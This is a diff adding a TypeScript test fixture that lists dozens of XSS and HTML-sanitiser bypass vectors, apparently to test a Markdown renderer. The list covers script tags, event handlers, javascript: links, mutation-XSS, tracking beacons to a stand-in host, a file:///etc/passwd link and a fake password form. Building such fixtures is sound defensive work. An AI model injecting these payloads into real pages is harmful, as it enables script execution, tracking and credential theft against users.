@@ -1,0 +1,90 @@
+/** A host that nobody has (RFC 2606). */
+export const FOREIGN_HOST = 'hostile.example';
+/** Stands in every draft before what is hostile: once it is there, the rest was looked at too. */
+export const HARMLESS = 'These words are harmless.';
+
+const RUN = `document.title='ran';new Image().src='https://${FOREIGN_HOST}/ran';alert(1)`;
+const AWAY = `https://${FOREIGN_HOST}`;
+
+/** Ways past a sanitiser, of Markdown and raw HTML: each wants to run a script, ask for something, or leave its frame. */
+export const VECTORS: readonly string[] = [
+  // Scripts, plain and in disguise.
+  `<script>${RUN}</script>`,
+  `<SCRIPT SRC=${AWAY}/x.js></SCRIPT>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script/x>${RUN}</script >`,
+  `<script\n>${RUN}</script\n>`,
+  `<<script>${RUN}//<</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><script>${RUN}</script></template>`,
+  // Handlers.
+  `<img src=x onerror="${RUN}">`,
+  `<img src=x:x onerror=${RUN} //`,
+  `<img/src="x"/onerror="${RUN}">`,
+  `<img src="x\`" onerror="${RUN}">`,
+  `<p onmouseover="${RUN}" onclick="${RUN}">point at me</p>`,
+  `<details open ontoggle="${RUN}"><summary>open</summary>x</details>`,
+  `<body onload="${RUN}"><p>body</p>`,
+  `<video autoplay onloadstart="${RUN}"><source onerror="${RUN}" src=x></video>`,
+  `<audio src=x onerror="${RUN}"></audio>`,
+  `<marquee onstart="${RUN}">x</marquee>`,
+  `<input autofocus onfocus="${RUN}">`,
+  `<button popovertarget=x onbeforetoggle="${RUN}">x</button><p id=x popover>y</p>`,
+  `<em style="animation:x 1s" onanimationstart="${RUN}">x</em>`,
+  `<a href=# onfocus="${RUN}" autofocus tabindex=1>x</a>`,
+  // Schemes.
+  `[one](javascript:${encodeURIComponent(RUN)})`,
+  `[two](JaVaScRiPt:alert(1)) [three](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
+  `<a href="java&#115;cript:alert(1)">x</a> <a href="jav&Tab;ascript:alert(1)">y</a>`,
+  `<a href="&#32;&NewLine;javascript:alert(1)">x</a> <a href=" javascript&colon;alert(1)">y</a>`,
+  `<a href="vbscript:msgbox(1)">x</a> <a href="file:///etc/passwd">y</a> <a href="blob:x">z</a>`,
+  `[x]: javascript:alert(1)\n\n[x]`,
+  `<javascript:alert(1)> <https://ok.example/"onclick="alert(1)>`,
+  `![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
+  `[x](https://a.example "title\\" onclick=\\"alert(1)")`,
+  `![a"onerror="alert(1)](x)`,
+  // Other documents.
+  `<iframe src="javascript:alert(1)"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
+  `<iframe src="${AWAY}/frame"></iframe>`,
+  `<object data="${AWAY}/x.svg"></object><embed src="${AWAY}/y.svg">`,
+  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
+  `<frameset onload="${RUN}"><frame src="${AWAY}"></frameset>`,
+  `<base href="${AWAY}/"><a href="x">relative</a><img src="pic.png">`,
+  `<meta http-equiv="refresh" content="0;url=${AWAY}/meta">`,
+  `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${RUN}</script>`,
+  `<link rel="stylesheet" href="${AWAY}/x.css"><link rel="prefetch" href="${AWAY}/p"><link rel="preload" as="image" href="${AWAY}/i">`,
+  `<link rel="modulepreload" href="${AWAY}/m.js"><link rel="dns-prefetch" href="${AWAY}">`,
+  // Looking something up.
+  `<img src="${AWAY}/track.gif" srcset="${AWAY}/2x.gif 2x" alt="x">`,
+  `![tracker](${AWAY}/pixel.png)`,
+  `<picture><source srcset="${AWAY}/p.webp"><img src="${AWAY}/p.png"></picture>`,
+  `<video src="${AWAY}/v.mp4" poster="${AWAY}/v.png" autoplay></video><audio autoplay src="${AWAY}/a.mp3"></audio>`,
+  `<table background="${AWAY}/t.png"><tr><td background="${AWAY}/c.png">x</td></tr></table>`,
+  `<p style="background:url(${AWAY}/s.png);position:fixed;inset:0">over everything</p>`,
+  `<style>@import url(${AWAY}/i.css);body{display:none;background:url(${AWAY}/b.png)}</style>`,
+  `<a href="${AWAY}/link" ping="${AWAY}/ping" target="_top">x</a>`,
+  `<form action="${AWAY}/form"><input name=password><button formaction="${AWAY}/b">Sign in again</button></form>`,
+  `<input type=image src="${AWAY}/in.png"><isindex action="${AWAY}">`,
+  // Foreign content, and parsers that disagree.
+  `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
+  `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><image href="${AWAY}/s.png"></image></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x"></use></svg>`,
+  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
+  `<svg></p><style><a id="</style><img src=x onerror='${RUN}'>">`,
+  `<math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">`,
+  `<math href="javascript:alert(1)"><mi>x</mi></math>`,
+  `<!--><img src=x onerror="${RUN}">-->`,
+  `<!-- --!><img src=x onerror="${RUN}"> -->`,
+  `<![CDATA[><script>${RUN}</script>]]>`,
+  `<?xml-stylesheet href="${AWAY}/x.xsl"?><p>x</p>`,
+  `<textarea><img title="</textarea><img src=x onerror='${RUN}'>"></textarea>`,
+  `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`,
+  `<title></title><style></style><select><option></select><script>${RUN}</script>`,
+  `<plaintext><script>${RUN}</script>`,
+  '`</code><script>alert(1)</script>`\n\n```html"onload="alert(1)\n</code></pre><script>alert(1)</script>\n```',
+  `<a href="x" href="javascript:alert(1)" HREF=javascript:alert(1)>x</a>`,
+  `<p id="main" class="plan" name="cookie" data-act="approve" data-plan="x" data-sign-in>clobbered</p>`,
+  `</article></body></html><script>${RUN}</script><div data-sign-out>`,
+];
